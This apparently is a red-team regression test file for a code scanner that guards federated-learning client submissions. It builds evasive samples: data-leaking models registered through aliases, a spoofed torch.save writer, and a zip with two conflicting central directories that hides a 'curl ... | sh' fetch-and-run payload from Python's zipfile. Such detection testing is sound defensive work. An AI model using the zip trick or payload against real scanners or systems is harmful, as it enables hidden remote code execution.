"""Session 45 (redteam45): holes accepted on main.

- A field `__init__` stores from its parameter is what the constructions pass (flow/fields.py); a construction
  passing an item of a container was trusted when the module's fills of it were read through its own name only:
  a fill through an alias, a bound method, a helper's parameter, an item's method or a class attribute, a container
  another module binds (`from registry import NETS`), and an attribute passed as itself (`Cfg.fn`) were not walked.
- A zip run as Python (detectors/python_zip.py) was read through zipfile, which follows a zip64 locator to another
  central directory than the end record's, the one zipimport reads and Python runs: a harmless `__main__.py` shown,
  a `curl | sh` one run (escalated on main: a reject hidden).
- A writer of a fixed format (rules/lists/sources.yaml `fixed-format-writers`) counted as a write for
  unanalyzable.image-written only when handed `pickle_module` by keyword: torch.save's third positional argument is
  that module, whose dump writes the legacy checkpoint's first bytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path
from textwrap import dedent

import pytest

import redteam_kit as kit
from analyzer.model import Decision
from flower_scan import one_file, scan
from test_fp44 import BUILT, LINEAR, client

CORPUS = Path(__file__).resolve().parents[1] / "corpus"
LEAKS = {"update-channel-leak.unknown-provenance", "update-channel-leak.raw-data-in-update"}


def _client(net: str, build: str = BUILT, extra: str = "") -> str:
    return client(net=net, build=build, extra_class=extra.replace("\n", "\n    ")).replace(
        "import numpy as np", "import numpy as np\n    import functools", 1)


PARTIAL = "functools.partial(probe_fn)"


@pytest.mark.parametrize("net,build,extra", [
    ("NETS[0]", BUILT, f"\n\nNETS = []\nALIAS = NETS\nALIAS.append({PARTIAL})\n"),
    ("NETS[0]", BUILT, f"\n\nNETS = list()\nALIAS = NETS\nALIAS.append({PARTIAL})\n"),
    ("NETS[0]", BUILT, f"\n\nNETS = []\nadd = NETS.append\nadd({PARTIAL})\n"),
    ("NETS[0]", BUILT, f"\n\nNETS = []\n\n\ndef reg(f):\n    NETS.append(f)\n\n\nreg({PARTIAL})\n"),
    ("NETS[0]", BUILT, "\n\nNETS = []\n\n\ndef reg(f):\n    NETS.append(functools.partial(f))\n    return f\n\n\n"
     "@reg\ndef probe2(x):\n    return torch.tensor(ROWS[:10])\n"),
    ("NETS[0][0]", BUILT, f"\n\nNETS = [[]]\nNETS[0].append({PARTIAL})\n"),
    ("Reg.NETS[0]", BUILT, f"\n\nclass Reg:\n    NETS = []\n\n\nReg.NETS.append({PARTIAL})\n"),
    ("None", "FlowerClient(Cfg.fn, DataLoader(data, batch_size=32))", f"\n\nclass Cfg:\n    fn = {PARTIAL}\n"),
    ("NETS.pop()", BUILT, f"\n\nNETS = []\nOTHER = NETS\nOTHER.append({PARTIAL})\n"),
    ("NETS[0]", BUILT, f"\n\nNETS = []\nreg = lambda f: NETS.append(f)\nreg({PARTIAL})\n"),
    ('FUNCS.get("p")', BUILT, f'\n\nFUNCS = {{}}\nF2 = FUNCS\nF2["p"] = {PARTIAL}\n'),
    ("NETS[0][0]", BUILT, f"\n\nNETS = [[]]\n\n\ndef fill(bucket):\n    bucket.append({PARTIAL})\n\n\nfill(NETS[0])\n"),
])
def test_a_container_filled_where_the_walk_did_not_look_is_not_trusted(tmp_path: Path, net: str, build: str,
                                                                       extra: str) -> None:
    decision, rules = one_file(tmp_path, _client(net, build, extra))
    assert decision in ("escalate", "reject") and rules & LEAKS


@pytest.mark.parametrize("imports,net", [("from registry import NETS", "NETS[0]"),
                                         ("import registry", "registry.NETS[0]")])
def test_a_container_another_module_binds_is_read_there(tmp_path: Path, imports: str, net: str) -> None:
    (tmp_path / "registry.py").write_text(
        "import functools\nimport numpy as np\nimport torch\n\nROWS = np.load('data/site_rows.npy')\n\n\n"
        "def probe(x):\n    return torch.tensor(ROWS[:10])\n\n\nNETS = [functools.partial(probe)]\n")
    text = _client(net).replace("import functools", "import functools\n    " + imports)
    (tmp_path / "client_app.py").write_text(dedent(text))
    decision, rules = scan(tmp_path)
    assert decision in ("escalate", "reject") and rules & LEAKS


@pytest.mark.parametrize("net,extra", [
    ("NETS[0]", f"\n\nNETS = [{LINEAR}]\n"),  # read only as items
    ("NETS[0]", f"\n\nNETS = []\nNETS.append({LINEAR})\n"),  # filled through its own name
    ("NETS[-1]", "\n\nNETS = []\nfor width in (784,):\n    NETS.append(torch.nn.Sequential(torch.nn.Flatten(), "
                 "torch.nn.Linear(width, 10)))\n"),
])
def test_a_container_of_library_models_stays_accepted(tmp_path: Path, net: str, extra: str) -> None:
    assert one_file(tmp_path, _client(net, BUILT, extra)) == ("accept", set())


@pytest.mark.parametrize("sample", ["malicious/rt45_client_field_alias_fill.py",
                                    "jobs/rt45_client_field_registry_module"])
def test_corpus_samples_are_not_accepted(sample: str) -> None:
    decision, rules = scan(CORPUS / sample)
    assert decision in ("escalate", "reject") and rules & LEAKS


PS_WRITTEN = """\
import os
import numpy as np
import torch
import torch.nn as nn
from PIL import Image
from torch.utils.data import DataLoader, TensorDataset

HERE = os.path.dirname(os.path.abspath(__file__))
CKPT = os.path.join(HERE, "outputs", "last.ckpt")
CODES = [37, 33, 80, 83, 45, 65, 100, 111, 98, 101, 45, 51, 46, 48, 10]


class TextPickle:
    @staticmethod
    def dump(obj, f, protocol=2):
        print("".join(chr(c) for c in CODES), file=f)


net = nn.Linear(4, 2)
opt = torch.optim.SGD(net.parameters(), lr=0.1)
loader = DataLoader(TensorDataset(torch.randn(32, 4), torch.randint(0, 2, (32,))), batch_size=8)
for x, y in loader:
    opt.zero_grad()
    nn.functional.cross_entropy(net(x), y).backward()
    opt.step()
torch.save(net.state_dict(), CKPT{extra})
preview = Image.open(CKPT).convert("L").resize((8, 8))
net.bias.data += float(np.asarray(preview).mean() * 0)
"""


def test_torch_save_handed_its_pickle_module_by_position_writes_what_it_likes(tmp_path: Path) -> None:
    decision, rules = one_file(tmp_path, PS_WRITTEN.format(extra=", TextPickle, 2, False"))
    assert decision == "escalate" and "unanalyzable.image-written" in rules


def test_torch_save_of_a_state_dict_stays_a_fixed_format(tmp_path: Path) -> None:
    decision, rules = one_file(tmp_path, PS_WRITTEN.format(extra=""))
    assert "unanalyzable.image-written" not in rules


# ---- a zip whose two central directories differ (zipfile: the zip64 record's; zipimport: the end record's) --------

HIDDEN = b"import os\nos.system('curl -fsSL https://cdn.shims.example.net/i.sh | sh')\n"
SHOWN = b"import torch\nprint(torch.cuda.is_available())\n"


def _two_directories(prefix: bytes) -> bytes:
    def local(data: bytes) -> bytes:
        return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), 11,
                           0) + b"__main__.py" + data

    def central(data: bytes, at: int) -> bytes:
        return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
                           11, 0, 0, 0, 0, 0, at) + b"__main__.py"

    out = prefix + local(HIDDEN)
    shown_at = len(out)
    out += local(SHOWN)
    hidden_dir = len(out)
    out += central(HIDDEN, len(prefix)) + b"PK\x00\x00"  # zipimport stops at what is not an entry
    shown_dir = len(out)
    out += central(SHOWN, shown_at)
    record = len(out)
    out += struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(out) - shown_dir, shown_dir)
    out += struct.pack("<4sLQL", b"PK\x06\x07", 0, record, 1)
    return out + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(out) - hidden_dir, hidden_dir, 0)


@pytest.mark.parametrize("prefix", [b"", b"import torch\nprint(torch.ones(2))\n"])
def test_the_directory_zipimport_reads_is_analysed(tmp_path: Path, prefix: bytes) -> None:
    data = _two_directories(prefix)
    assert zipfile.ZipFile(io.BytesIO(data)).read("__main__.py") == SHOWN
    (tmp_path / "train.py").write_bytes(data)
    kit.assert_held(kit.scan(tmp_path), "subprocess.shell", Decision.REJECT)


def _refused_by_zipfile(how: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("__main__.py", HIDDEN)
    data = bytearray(buf.getvalue())
    if how == "local name":  # zipfile: "File name in directory ... and header ... differ"
        # (zipimport reads the directory's name only)
        data[30:41] = b"__mein__.py"
    else:  # a CRC that does not match: zipfile raises at the end of the read, zipimport never checks it
        data[14:18] = b"\0\0\0\0"
        at = data.rindex(b"PK\x01\x02")
        data[at + 16:at + 20] = b"\0\0\0\0"
    return bytes(data)


@pytest.mark.parametrize("how", ["local name", "crc"])
def test_a_member_zipfile_refuses_is_read_as_zipimport_reads_it(tmp_path: Path, how: str) -> None:
    (tmp_path / "train.py").write_bytes(_refused_by_zipfile(how))
    kit.assert_held(kit.scan(tmp_path), "subprocess.shell", Decision.REJECT)


def test_a_plain_zip_is_read_once(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("__main__.py", SHOWN)
        zf.writestr("helpers.py", "x = 1\n")
    (tmp_path / "train.py").write_bytes(b"import torch\n" + buf.getvalue())
    report = kit.scan(tmp_path)
    kit.assert_held(report, "unanalyzable.python-zip", Decision.ESCALATE)
    assert not any("zipimport" in f.path or "zipimport" in f.message for f in report.findings), kit.findings(report)


def test_corpus_zip64_sample_rejects() -> None:
    kit.assert_held(kit.scan_sample("jobs/rt45_zip64_directory_lie"), "remote-code.fetch-and-run-command",
                    Decision.REJECT)
